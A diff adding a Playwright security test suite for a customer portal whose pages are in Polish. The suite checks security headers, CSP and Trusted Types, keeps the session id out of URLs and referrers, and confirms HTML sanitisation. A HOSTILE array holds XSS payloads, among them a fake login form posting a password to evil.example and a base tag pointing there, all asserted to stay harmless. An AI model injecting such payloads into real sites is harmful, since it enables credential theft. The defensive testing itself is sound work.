@@ -1,0 +1,123 @@
+import type { Page } from "@playwright/test";
+import { expect, test } from "./support/fixtures.ts";
+import { comeIn } from "./support/kept-session.ts";
+import { login } from "./support/login.ts";
+import { rewriteReply, siteContentWith } from "./support/wire-reply.ts";
+import listed from "../../deploy/security-headers.json" with { type: "json" };
+
+/** Those that make sense without HTTPS too. */
+const HEADERS = listed.filter(({ deployOnly }) => deployOnly !== true).map(({ name, value }) => [name.toLowerCase(), value] as const);
+
+test("every answer of the portal carries exactly the listed security headers", async ({ request, page }) => {
+  const pages = ["/", "/index", "/nie-ma", "/sessionExpired", "/first-paint.js", "/favicon.svg", "/assets/nie-ma.js"];
+  for (const address of pages) {
+    const headers = (await request.get(address, { headers: { Accept: "text/html,*/*" } })).headers();
+    for (const [name, value] of HEADERS) expect(headers[name], `${name} of ${address}`).toBe(value);
+  }
+  const scripts: string[] = [];
+  page.on("response", (response) => {
+    const headers = response.headers();
+    for (const [name, value] of HEADERS) {
+      if (headers[name] !== value) scripts.push(`${response.url()}: ${name} is ${headers[name] ?? "missing"}`);
+    }
+  });
+  await comeIn(page, "m.brzezinska");
+  await expect(page.getByText("Telefon Zosi")).toBeVisible();
+  await page.waitForLoadState("networkidle");
+  expect(scripts, "chunks, styles, fonts and answers of the provider").toEqual([]);
+});
+
+test("the policy holds: no inline script runs, no string becomes code, no markup comes from text", async ({ page, troubles }) => {
+  troubles.allow(/Content Security Policy|TrustedHTML|Trusted|CSP (script-src|require-trusted-types-for)/);
+  await page.goto("/");
+  const outcome = await page.evaluate(() => {
+    const refused: string[] = [];
+    const script = document.createElement("script");
+    try {
+      script.text = "window.hacked = true";
+      document.head.append(script);
+    } catch {
+      refused.push("script text");
+    }
+    try {
+      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = true'>");
+    } catch {
+      refused.push("html text");
+    }
+    return { refused, hacked: "hacked" in window };
+  });
+  expect(outcome.hacked).toBe(false);
+  expect(outcome.refused).toEqual(["script text", "html text"]);
+});
+
+test("the session id is in no address: not of a request, not of a page, not of a referrer", async ({ page, context }) => {
+  const addresses: string[] = [];
+  context.on("request", (request) => addresses.push(request.url(), request.headers()["referer"] ?? ""));
+  page.on("framenavigated", (frame) => addresses.push(frame.url()));
+  await login(page, "m.brzezinska");
+  const id = await page.evaluate(() => /"sessionId":"([^"]+)"/.exec(localStorage.getItem("ebok.session") ?? "")?.[1] ?? "");
+  expect(id).toMatch(/^[\da-f]{48}$/);
+  for (const name of ["Faktury", "Usługi", "Oferta", "Wiadomości"]) {
+    await page.getByRole("banner").getByRole("link", { name }).click();
+    await expect(page.getByRole("main").getByRole("heading", { level: 1 })).toBeFocused();
+  }
+  await page.goto("/invoice?pay=all");
+  await expect(page.getByRole("heading", { level: 1, name: "Faktury" })).toBeVisible();
+  await page.waitForLoadState("networkidle");
+  await page.goto("/paymentComplete/invoice");
+  await page.getByRole("button", { name: "Wyloguj" }).click();
+  await expect(page).toHaveURL("/");
+  expect(addresses.length).toBeGreaterThan(20);
+  expect(addresses.filter((address) => address.includes(id))).toEqual([]);
+  expect((await context.cookies()).filter(({ value }) => value.includes(id)), "nor in a cookie").toEqual([]);
+  expect(await page.evaluate(() => JSON.stringify(window.history.state) + document.referrer)).not.toContain(id);
+});
+
+const HOSTILE = [
+  "<script>window.hacked = 1</script>",
+  "<img src=x onerror=\"window.hacked = 1\">",
+  "<svg onload=\"window.hacked = 1\"><script>window.hacked = 1</script></svg>",
+  "<a href=\"javascript:window.hacked=1\">Kliknij</a>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
+  "<form action=\"https://evil.example\"><input name=haslo><button>Zaloguj się</button></form>",
+  "<iframe srcdoc=\"<script>parent.hacked = 1</script>\"></iframe>",
+  "<p style=\"position:fixed;inset:0\" class=\"dialog\" id=\"tresc\">Zasłona</p>",
+  "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
+  "<img src=\"https://evil.example/pixel.png\">",
+].join("");
+
+async function expectHarmless(page: Page): Promise<void> {
+  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+  const promo = page.getByRole("region", { name: "Promocja" });
+  expect(await promo.innerHTML()).not.toMatch(/script|onerror|onload|javascript:|<form|<input|<iframe|<style|<base|style=|id="tresc"/i);
+}
+
+test("[SITE-01] the operator's hostile HTML is shown as words at most", async ({ page, troubles }) => {
+  // the policy watches the sanitiser's own parser too, and a picture of another host is closed by it: nothing of it runs
+  troubles.allow(/Content Security Policy|^console: CSP /);
+  const elsewhere: string[] = [];
+  page.on("response", (response) => {
+    if (new URL(response.url()).hostname.endsWith("evil.example")) elsewhere.push(response.url());
+  });
+  await rewriteReply(page, "getSiteContent", siteContentWith("bottom_logged_in_banner", `<p>Na początku.</p>${HOSTILE}<p>Na końcu.</p>`));
+  await comeIn(page, "m.brzezinska");
+  const promo = page.getByRole("region", { name: "Promocja" });
+  await expect(promo).toContainText("Na początku.");
+  await expectHarmless(page);
+  await promo.getByText("Kliknij").click();
+  await expectHarmless(page);
+  await expect(page.getByText("Telefon Zosi")).toBeVisible();
+  expect(elsewhere).toEqual([]);
+});
+
+test("[SITE-01] HTML in texts that are none stays text", async ({ page }) => {
+  const text = "&lt;img src=x onerror=window.hacked=1&gt;&lt;script&gt;window.hacked=1&lt;/script&gt;";
+  await rewriteReply(page, "getClientData", (xml) => xml.replaceAll(/<(firstName|lastName|customName|productInfo)>[^<]*/g, (_all, name: string) => `<${name}>${text}`));
+  await rewriteReply(page, "getOutageMessages", (xml) => xml.replaceAll(/<(title|body)>[^<]*/g, (_all, name: string) => `<${name}>${text}`));
+  await rewriteReply(page, "getClientMessages", (xml) => xml.replaceAll(/<title>[^<]*/g, `<title>${text}`));
+  await comeIn(page, "m.brzezinska");
+  await expect(page.getByRole("main").getByText("<img src=x onerror=window.hacked=1>").first()).toBeVisible();
+  await page.getByRole("banner").getByRole("link", { name: "Usługi" }).click();
+  await expect(page.getByRole("main").getByText("<img src=x onerror=window.hacked=1>").first()).toBeVisible();
+  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+});
